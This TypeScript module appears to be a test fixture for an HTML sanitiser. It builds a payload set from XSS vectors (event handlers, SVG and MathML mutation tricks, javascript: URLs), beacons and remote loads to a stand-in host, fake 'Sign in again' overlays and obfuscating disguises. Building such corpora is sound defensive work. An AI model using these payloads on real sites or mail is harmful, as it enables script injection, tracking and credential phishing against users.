import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

export interface Payload {
  name: string;
  html: string;
}

/** Whoever runs is counted by the page around the frame. */
const run = 'parent.hit()';
const home = 'https://call.example';

/** What runs, calls home, leads away or covers the page when a browser reads it without a wall. */
const vectors: Record<string, string> = {
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="${home}/a.js"></script>`,
  module: `<script type="module">${run}</script>`,
  'picture that fails': `<img src="x" onerror="${run}">`,
  'picture that loads': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${run}">`,
  'picture without quotes': `<img src=x onerror=${run}>`,
  'picture with slashes': `<img/src/onerror=${run}>`,
  'picture with a tab in its handler': `<img src=x\tonerror\n=\n"${run}">`,
  svg: `<svg onload="${run}"></svg>`,
  'svg script': `<svg><script>${run}</script></svg>`,
  'svg animation': `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`,
  'svg in use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
  'foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  'style that turns into markup': `<svg></p><style><a id="</style><img src=x onerror=${run}>"></a></style></svg>`,
  'noscript that turns into markup': `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`,
  'form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}></style></mglyph></form></mtext></math></form>`,
  details: `<details open ontoggle="${run}"><summary>x</summary></details>`,
  focus: `<input autofocus onfocus="${run}">`,
  'focus without a field': `<p tabindex="0" autofocus onfocus="${run}">x</p>`,
  body: `<body onload="${run}">`,
  'page show': `<body onpageshow="${run}">`,
  marquee: `<marquee onstart="${run}">x</marquee>`,
  video: `<video><source onerror="${run}"></video>`,
  audio: `<audio src="x" onerror="${run}"></audio>`,
  object: `<object data="javascript:${run}" onerror="${run}"></object>`,
  embed: `<embed src="${home}/a.swf">`,
  'frame with a script address': `<iframe src="javascript:parent.${run}"></iframe>`,
  'frame with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'frame from elsewhere': `<iframe src="${home}/frame"></iframe>`,
  animation: `<style>@keyframes x{from{left:0}}</style><p style="animation:x 1ms" onanimationstart="${run}">x</p>`,
  'style sheet from elsewhere': `<link rel="stylesheet" href="${home}/a.css">`,
  'style that imports': `<style>@import "${home}/b.css";</style>`,
  'style that fetches': `<p style="background-image:url(${home}/c.png)">x</p>`,
  'style with escapes that fetches': `<p style="background-image:\\75 rl(${home}/d.png)">x</p>`,
  'font from elsewhere': `<style>@font-face{font-family:f;src:url(${home}/f.woff)}p{font-family:f}</style><p>x</p>`,
  'picture from elsewhere': `<img src="${home}/e.png">`,
  'picture for another screen': `<img srcset="${home}/g.png 1x, ${home}/h.png 2x">`,
  'picture of a film': `<video poster="${home}/i.png" src="${home}/j.mp4" autoplay></video>`,
  'background of a table': `<table background="${home}/k.png"><tr><td background="${home}/l.png">x</td></tr></table>`,
  preload: `<link rel="preload" as="image" href="${home}/m.png"><link rel="prefetch" href="${home}/n">`,
  'lookup ahead': `<link rel="preconnect" href="${home}"><link rel="dns-prefetch" href="${home}">`,
  icon: `<link rel="icon" href="${home}/o.ico"><link rel="manifest" href="${home}/p.json">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${home}/q">`,
  'another base': `<base href="${home}/"><img src="r.png"><a href="s">x</a>`,
  'form that sends itself': `<form action="${home}/t"><input name="a"></form><script>document.forms[0].submit()</script>`,
  'way out of the frame': `<script>top.location='${home}/u'</script>`,
  'window of its own': `<script>open('${home}/v')</script>`,
  beacon: `<script>navigator.sendBeacon('${home}/w');new Image().src='${home}/x'</script>`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *"><script>${run}</script>`,
  cover: `<div style="position:fixed;inset:0;z-index:2147483647;background:white">Sign in again</div>`,
  'cover with a comment in its style': `<div style="position/**/:/**/fixed;inset:0">Sign in again</div>`,
  'cover with escapes in its style': `<div style="p\\6fsition:fix\\65 d;inset:0">Sign in again</div>`,
  'cover that sticks': `<div style="position:sticky;top:0;height:100vh">Sign in again</div>`,
  'cover by a dialog': `<dialog open style="position:fixed;inset:0">Sign in again</dialog>`,
  'cover by a style sheet': `<style>*{position:fixed!important;inset:0}</style><p>Sign in again</p>`,
};

/** How a mail hides it from whoever reads less well than a browser. */
const disguises: Record<string, (html: string) => string> = {
  plain: (html) => html,
  'in capitals': (html) =>
    html.replace(/<(\/?)([a-z]+)/g, (_, end: string, tag: string) => `<${end}${tag.toUpperCase()}`),
  'in a table': (html) => `<table><tr><td>${html}</td></tr></table>`,
  'after an open comment': (html) => `<!--><p>--!>${html}-->`,
  'in a select': (html) => `<select><option>x</option></select>${html}<select>${html}`,
  'with zeros and controls': (html) => `\u0000<p>\u0001</p>${html}\u0000`,
};

/** A vector in each disguise, and no two alike. */
export const ownPayloads: readonly Payload[] = Object.entries(disguises).flatMap(([how, disguise]) =>
  Object.entries(vectors).map(([what, html]) => ({ name: `${what}, ${how}`, html: disguise(html) })),
);

const published = fileURLToPath(
  new URL('../../../../../shared/corpora/hostile-html/payloads.json', import.meta.url),
);

/** What others found against sanitisers, where it lies beside the checkout; it is not ours to hand on. */
export const publishedPayloads = (): Payload[] =>
  existsSync(published)
    ? (JSON.parse(readFileSync(published, 'utf8')) as { name: string; payload: string }[]).map(
        ({ name, payload }, n) => ({ name: `published ${n}: ${name}`, html: payload }),
      )
    : [];
